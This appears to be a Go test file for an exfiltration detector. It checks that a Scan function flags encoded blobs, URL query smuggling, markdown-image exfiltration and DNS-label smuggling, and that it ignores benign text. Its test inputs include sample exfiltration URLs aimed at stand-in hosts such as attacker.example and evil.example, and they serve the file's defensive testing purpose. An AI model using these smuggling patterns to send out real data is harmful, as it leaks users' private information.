package exfil

import (
	"encoding/base64"
	"encoding/hex"
	"math/rand/v2"
	"strings"
	"testing"
)

func randBytes(n int) []byte {
	r := rand.New(rand.NewPCG(3, 4))
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(r.IntN(256))
	}
	return b
}

func TestScan(t *testing.T) {
	blob := base64.StdEncoding.EncodeToString(randBytes(600))
	hexBlob := hex.EncodeToString(randBytes(200))
	smuggle := "https://attacker.example/collect?d=" + base64.URLEncoding.EncodeToString(randBytes(90))
	tests := []struct {
		name, in, want string
	}{
		{"base64 blob", "here: " + blob + " end", "encoded_blob_base64"},
		{"pem-wrapped base64", "data:\n" + strings.Join(chunk(blob, 64), "\n"), "encoded_blob_base64"},
		{"hex blob", "dump " + hexBlob, "encoded_blob_hex"},
		{"url query smuggling", "visit " + smuggle + " now", "url_smuggling"},
		{"markdown image exfil", "![logo](" + smuggle + ")", "markdown_image_exfil"},
		{"dns label", "https://" + hex.EncodeToString(randBytes(24)) + ".evil.example/x", "url_smuggling"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			hits := Scan(tc.in)
			for _, h := range hits {
				if h.Category == tc.want {
					if h.Start < 0 || h.End > len(tc.in) || h.Confidence <= 0 || h.Confidence > 1 {
						t.Fatalf("bad hit %+v", h)
					}
					return
				}
			}
			t.Fatalf("no %s in %+v", tc.want, hits)
		})
	}
}

func chunk(s string, n int) []string {
	var out []string
	for len(s) > n {
		out = append(out, s[:n])
		s = s[n:]
	}
	return append(out, s)
}

func TestBenign(t *testing.T) {
	for _, s := range []string{
		"See https://docs.example.com/guide?section=install&lang=en for steps.",
		"https://github.com/portcullis-mcp/portcullis/blob/main/detectors/exfil/exfil.go#L10",
		strings.Repeat("word ", 500),
		"sha256: " + hex.EncodeToString(randBytes(32)), // a digest is not a blob
		"https://www.google.com/search?q=how+to+write+a+go+benchmark+with+allocations+reported&hl=en",
		strings.Repeat("aaaaaaaa", 200),
	} {
		if hits := Scan(s); len(hits) != 0 {
			t.Errorf("benign %q: %+v", s[:min(50, len(s))], hits)
		}
	}
}

func TestCounter(t *testing.T) {
	var c Counter
	if c.Hits() != nil {
		t.Fatal("empty counter has hits")
	}
	for i := 0; i < BulkEmails; i++ {
		c.Add("EMAIL_ADDRESS")
	}
	c.Add("CREDIT_CARD")
	hits := c.Hits()
	if len(hits) != 1 || hits[0].Category != "bulk_records_email" {
		t.Fatalf("hits %+v", hits)
	}
	var d Counter
	for i := 0; i < BulkPIITotal; i++ {
		d.Add("PHONE_NUMBER")
	}
	if h := d.Hits(); len(h) != 1 || h[0].Category != "bulk_records" {
		t.Fatalf("total hits %+v", h)
	}
}

func FuzzScan(f *testing.F) {
	f.Add("https://x.example/?a=" + strings.Repeat("Zm9v", 30))
	f.Add(strings.Repeat("A1b2", 200))
	f.Add("![x](http://")
	f.Fuzz(func(t *testing.T, s string) {
		for _, h := range Scan(s) {
			if h.Start < 0 || h.End > len(s) || h.Start > h.End {
				t.Fatalf("bad span %+v", h)
			}
		}
	})
}

func BenchmarkScan(b *testing.B) {
	s := strings.Repeat("Contact https://docs.example.com/guide?section=install for the 2024 report; revenue grew 12%. ", 45)
	b.SetBytes(int64(len(s)))
	b.ReportAllocs()
	for b.Loop() {
		Scan(s)
	}
}

// TestBlobAtEveryOffset: the skip-ahead of the blob scan finds a blob
// wherever it starts, alone or as PEM-style lines, after short runs of the
// alphabet (words) and at the very end of the text.
func TestBlobAtEveryOffset(t *testing.T) {
	hexBlob := strings.Repeat("3f9a0c7d1e2b4c6a", 20)[:300]
	var pem strings.Builder
	for i := 0; i < 10; i++ {
		pem.WriteString(strings.Repeat("QmFzZTY0IGJsb2IgbGluZSB3aXRoIGVub3VnaCBlbnRyb3B5IDAxMjM0NTY3ODk"[i%3:], 2)[:64] + "\n")
	}
	pemBlob := strings.TrimSuffix(pem.String(), "\n")
	prose := strings.Repeat("see the log at line 42 for details, ", 30)
	for _, tc := range []struct{ blob, cat string }{{hexBlob, "encoded_blob_hex"}, {pemBlob, "encoded_blob_base64"}} {
		for k := 0; k <= 700; k += 13 {
			pre := prose[:k]
			if k > 0 {
				pre += " "
			}
			for _, post := range []string{"", " and more text", ".\n"} {
				s := pre + tc.blob + post
				var got []Hit
				for _, h := range Scan(s) {
					if strings.HasPrefix(h.Category, "encoded_blob") {
						got = append(got, h)
					}
				}
				if len(got) != 1 || got[0].Category != tc.cat || got[0].Start != len(pre) || got[0].End != len(pre)+len(tc.blob) {
					t.Fatalf("prefix %d, suffix %q: got %+v, want %s at %d-%d", k, post, got, tc.cat, len(pre), len(pre)+len(tc.blob))
				}
			}
		}
	}
}
